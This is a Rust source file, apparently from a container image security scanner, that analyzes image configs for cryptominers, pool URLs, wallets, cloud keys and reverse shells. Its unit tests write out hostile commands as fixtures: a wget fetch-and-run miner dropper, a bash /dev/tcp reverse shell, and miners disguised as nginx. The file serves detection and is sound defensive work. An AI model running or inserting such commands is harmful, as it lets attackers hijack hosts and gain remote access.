//! Config analyzer: what the image runs and carries in its config.
//! - Entrypoint + Cmd: the command text is checked like a script (pool URLs, miner options,
//!   droppers, wallets); shell-form (`sh -c "..."`) is split into the commands it runs, and
//!   each program is resolved against the image's `PATH` and the final filesystem (inside
//!   the image only, symlinks followed there): a miner by name is `IMG-MINER-BINARY`.
//! - Entrypoint + Cmd as a command sequence: what it does ([`crate::behaviour`]: a miner
//!   command line under any name, fetch-and-run, reverse shells, ...), as run (HIGH).
//! - Env: each value is checked like a script, for wallets, and for cloud keys (`AKIA…`
//!   together with `AWS_SECRET_ACCESS_KEY`).
//! - ExposedPorts: ports pools listen on (LOW on their own).

use super::{content, wallet, Analyzer, FsLookup, ImageFacts, Signal, SignalKind, Subject};
use crate::image::{EntryKind, Image};
use crate::signatures::Signatures;
use regex::Regex;
use std::sync::{Arc, LazyLock};

const DEFAULT_PATH: &str = "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin";
/// Words that run the next word as the program.
const WRAPPERS: &[&str] = &[
    "exec", "nohup", "env", "sudo", "nice", "setsid", "timeout", "command",
];

static AWS_KEY_ID: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\b(AKIA|ASIA)[0-9A-Z]{16}\b").expect("valid"));

pub struct ConfigAnalyzer {
    sigs: Arc<Signatures>,
}

impl ConfigAnalyzer {
    pub fn new(sigs: Arc<Signatures>) -> Self {
        ConfigAnalyzer { sigs }
    }
}

/// The commands an exec-form argv runs: itself, or, for `sh -c SCRIPT`, the script's
/// commands (split by the shared [`crate::shell`] lexer), each as words.
pub fn commands(argv: &[String]) -> Vec<Vec<String>> {
    match crate::shell::shell_script(argv) {
        Some(script) => crate::shell::split_commands(script)
            .iter()
            .map(|c| crate::shell::words(c))
            .filter(|w| !w.is_empty())
            .collect(),
        None if argv.is_empty() => vec![],
        None => vec![argv.to_vec()],
    }
}

/// The start command as one command sequence for [`crate::behaviour::judge`]: the
/// script's commands for shell form, else the argv itself.
pub fn start_sequence(argv: &[String]) -> Vec<crate::behaviour::ShellCommand> {
    match crate::shell::shell_script(argv) {
        Some(script) => crate::behaviour::script_commands(script),
        None if argv.is_empty() => vec![],
        None => vec![crate::behaviour::ShellCommand {
            text: shell_words::join(argv),
            words: argv.to_vec(),
            line: 1,
            after: crate::behaviour::Sep::Start,
        }],
    }
}

/// The program word of a command (after `VAR=x` assignments and wrappers like `exec`).
pub fn program(cmd: &[String]) -> Option<&str> {
    cmd.iter().map(String::as_str).find(|w| {
        let assignment = w.contains('=') && !w.starts_with('/');
        !assignment && !WRAPPERS.contains(w) && !w.starts_with('-')
    })
}

/// Resolve `prog` like `execvp` would inside the image: absolute or relative paths as
/// given (relative to `workdir`), bare names through `path_var`.
pub fn resolve<'a>(
    fs: &'a dyn FsLookup,
    prog: &str,
    path_var: &str,
    workdir: &str,
) -> Option<(String, &'a crate::image::FileEntry)> {
    let candidates: Vec<String> = if prog.contains('/') {
        if prog.starts_with('/') {
            vec![prog.to_string()]
        } else {
            vec![format!("{}/{prog}", workdir.trim_end_matches('/'))]
        }
    } else {
        path_var
            .split(':')
            .filter(|d| !d.is_empty())
            .map(|d| format!("{}/{prog}", d.trim_end_matches('/')))
            .collect()
    };
    candidates.into_iter().find_map(|c| {
        let norm = crate::layers::normalize_path(&c).0;
        let e = fs.resolve(&norm)?;
        (e.kind == EntryKind::File).then_some((norm, e))
    })
}

impl Analyzer for ConfigAnalyzer {
    fn name(&self) -> &'static str {
        "config"
    }
    fn image(&self, image: &Image, fs: &dyn FsLookup, _facts: &ImageFacts, out: &mut Vec<Signal>) {
        let cfg = &image.config;
        let argv: Vec<String> = cfg.entrypoint.iter().chain(&cfg.cmd).cloned().collect();
        if !argv.is_empty() {
            let field = match (cfg.entrypoint.is_empty(), cfg.cmd.is_empty()) {
                (false, false) => "Entrypoint+Cmd",
                (false, true) => "Entrypoint",
                _ => "Cmd",
            };
            let subject = Subject::Config {
                field: field.into(),
            };
            let text = argv.join(" ");
            out.extend(content::scan_text(&self.sigs, &text, &subject));
            out.extend(wallet::scan_text_with(&self.sigs.wallets, &text, &subject));
            let found = crate::behaviour::judge(&self.sigs.behaviour, &start_sequence(&argv));
            out.extend(crate::behaviour::signals(found, &subject, true));
            let path_var = cfg.env_var("PATH").unwrap_or(DEFAULT_PATH);
            let workdir = if cfg.working_dir.is_empty() {
                "/"
            } else {
                &cfg.working_dir
            };
            for cmd in commands(&argv) {
                let Some(prog) = program(&cmd) else { continue };
                let resolved = resolve(fs, prog, path_var, workdir);
                let base = prog.rsplit('/').next().unwrap_or(prog);
                let hit = resolved
                    .as_ref()
                    .and_then(|(_, e)| self.sigs.miner_name(e.basename()))
                    .or_else(|| self.sigs.miner_name(base));
                if let Some(n) = hit {
                    let excerpt = match &resolved {
                        Some((p, e)) => format!("{prog} -> /{p} (layer {})", e.layer),
                        None => format!("{prog} (not found in the image)"),
                    };
                    out.push(Signal {
                        line: None,
                        subject: subject.clone(),
                        kind: SignalKind::MinerName(n.kind),
                        signature: format!("runs-miner:{}", n.name),
                        offset: None,
                        excerpt,
                    });
                }
            }
        }
        let secret = cfg
            .env_var("AWS_SECRET_ACCESS_KEY")
            .is_some_and(|v| !v.is_empty());
        for (i, kv) in cfg.env.iter().enumerate() {
            let (k, v) = kv.split_once('=').unwrap_or((kv, ""));
            if v.is_empty() {
                continue;
            }
            let subject = Subject::Config {
                field: format!("Env[{i}] {k}"),
            };
            out.extend(content::scan_text(&self.sigs, v, &subject));
            out.extend(wallet::scan_text_with(&self.sigs.wallets, v, &subject));
            if let Some(m) = AWS_KEY_ID.find(v) {
                let key = m.as_str();
                out.push(Signal {
                    line: None,
                    subject: subject.clone(),
                    kind: SignalKind::CloudKey(secret),
                    signature: if secret {
                        "aws-key-with-secret".into()
                    } else {
                        "aws-key-id".into()
                    },
                    offset: Some(m.start() as u64),
                    excerpt: format!("{k}={}…{}", &key[..4], &key[key.len() - 4..]),
                });
            }
        }
        for p in &cfg.exposed_ports {
            let num = p.split('/').next().and_then(|n| n.parse::<u16>().ok());
            if num.is_some_and(|n| self.sigs.ports.contains(&n)) {
                out.push(Signal {
                    line: None,
                    subject: Subject::Config {
                        field: "ExposedPorts".into(),
                    },
                    kind: SignalKind::PoolPort,
                    signature: format!("pool-port:{}", num.unwrap_or(0)),
                    offset: None,
                    excerpt: p.clone(),
                });
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::analyzers::collate;
    use crate::findings::Severity;
    use crate::image::{FileEntry, ImageConfig};
    use std::collections::HashMap;

    fn image(cfg: ImageConfig) -> Image {
        Image {
            reference: "t".into(),
            manifest_digest: "sha256:m".into(),
            config_digest: "sha256:c".into(),
            platform: Default::default(),
            config: cfg,
            layers: vec![],
            names: vec![],
            notes: vec![],
        }
    }

    fn fs(files: &[&str]) -> HashMap<String, FileEntry> {
        files
            .iter()
            .map(|p| {
                (
                    p.to_string(),
                    FileEntry {
                        layer: 2,
                        layer_digest: "sha256:2".into(),
                        path: p.to_string(),
                        kind: EntryKind::File,
                        mode: 0o755,
                        size: 1,
                        link_target: None,
                        hidden_by: None,
                    },
                )
            })
            .collect()
    }

    fn run(cfg: ImageConfig, files: &[&str]) -> Vec<(String, Severity)> {
        let a = ConfigAnalyzer::new(Arc::new(Signatures::embedded().unwrap()));
        let mut out = Vec::new();
        a.image(&image(cfg), &fs(files), &ImageFacts::default(), &mut out);
        collate(&out, &|_, _| None)
            .into_iter()
            .map(|f| (f.id, f.severity))
            .collect()
    }

    #[test]
    fn splits_shell_form() {
        let argv: Vec<String> = [
            "/bin/sh",
            "-c",
            "cd /opt && FOO=1 exec ./xmrig -o 'a b'; echo done",
        ]
        .iter()
        .map(|s| s.to_string())
        .collect();
        let cmds = commands(&argv);
        assert_eq!(cmds.len(), 3);
        assert_eq!(program(&cmds[1]), Some("./xmrig"));
        assert_eq!(cmds[1].last().unwrap(), "a b");
    }

    #[test]
    fn pool_url_in_cmd_and_miner_via_path() {
        let cfg = ImageConfig {
            cmd: vec![
                "app".into(),
                "-o".into(),
                "stratum+tcp://pool.minexmr.com:4444".into(),
            ],
            ..Default::default()
        };
        assert_eq!(
            run(cfg, &[]),
            [("IMG-POOL-ENDPOINT".into(), Severity::High)]
        );
        let cfg = ImageConfig {
            entrypoint: vec!["sh".into(), "-c".into(), "exec kdevtmpfsi".into()],
            env: vec!["PATH=/opt/bin:/usr/bin".into()],
            ..Default::default()
        };
        assert_eq!(
            run(cfg, &["opt/bin/kdevtmpfsi"]),
            [("IMG-MINER-BINARY".into(), Severity::High)]
        );
    }

    #[test]
    fn env_wallet_keys_and_ports() {
        let w = "43zqYTWj1JG1H1idZFQWwJZLTos3hbJ5iR3tJpEtwEi43UBbzPeaQxCRysdjYTtdc8aHao7csiWa5BTP9PfNYzyfSbbrwoR";
        let cfg = ImageConfig {
            env: vec![
                format!("WALLET={w}"),
                "AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE".into(),
                "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY".into(),
                "PATH=/usr/bin".into(),
            ],
            exposed_ports: vec!["3333/tcp".into(), "80/tcp".into()],
            ..Default::default()
        };
        let mut got = run(cfg, &[]);
        got.sort();
        assert_eq!(
            got,
            [
                ("IMG-CLOUD-CREDENTIALS".into(), Severity::High),
                ("IMG-POOL-ENDPOINT".into(), Severity::Low),
                ("IMG-WALLET".into(), Severity::High),
            ]
        );
    }

    #[test]
    fn miner_command_line_under_any_name() {
        let w = "43zqYTWj1JG1H1idZFQWwJZLTos3hbJ5iR3tJpEtwEi43UBbzPeaQxCRysdjYTtdc8aHao7csiWa5BTP9PfNYzyfSbbrwoR";
        // The grammar alone (short options no literal knows, an unchecked wallet): HIGH.
        let cfg = ImageConfig {
            cmd: [
                "nginx",
                "-o",
                "203.0.113.5:8080",
                "-u",
                "0x27cd1fe7c5946611d70f45d0d89c514f4106a08f",
                "-a",
                "ethash",
            ]
            .map(String::from)
            .to_vec(),
            ..Default::default()
        };
        assert_eq!(
            run(cfg, &["usr/sbin/nginx"]),
            [("IMG-MINER-COMMAND".into(), Severity::High)]
        );
        // With `--donate-level` the miner strings agree: two threat components, CRITICAL.
        let cfg = ImageConfig {
            cmd: [
                "nginx",
                "-o",
                "203.0.113.5:3333",
                "-u",
                "WALLET",
                "--donate-level",
                "1",
            ]
            .map(String::from)
            .to_vec(),
            ..Default::default()
        };
        assert_eq!(
            run(cfg, &["usr/sbin/nginx"]),
            [("IMG-MINER-COMMAND".into(), Severity::Critical)]
        );
        // Shell form: a fetched file run with the miner's options; with a wallet: CRITICAL.
        let cfg = ImageConfig {
            entrypoint: vec!["/bin/sh".into(), "-c".into()],
            cmd: vec![format!(
                "cd /tmp && wget -q http://203.0.113.5/n && chmod +x n && exec ./n -o 203.0.113.5:80 -u {w}"
            )],
            ..Default::default()
        };
        assert_eq!(
            run(cfg, &[]),
            [("IMG-MINER-COMMAND".into(), Severity::Critical)]
        );
        let cfg = ImageConfig {
            cmd: ["sh", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"]
                .map(String::from)
                .to_vec(),
            ..Default::default()
        };
        assert_eq!(
            run(cfg, &[]),
            [("IMG-REVERSE-SHELL".into(), Severity::High)]
        );
    }

    #[test]
    fn ordinary_config_is_clean() {
        let cfg = ImageConfig {
            entrypoint: vec!["/docker-entrypoint.sh".into()],
            cmd: vec!["nginx".into(), "-g".into(), "daemon off;".into()],
            env: vec![
                "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin".into(),
                "NGINX_VERSION=1.27.0".into(),
            ],
            exposed_ports: vec!["80/tcp".into()],
            ..Default::default()
        };
        assert!(run(cfg, &["usr/sbin/nginx"]).is_empty());
    }
}
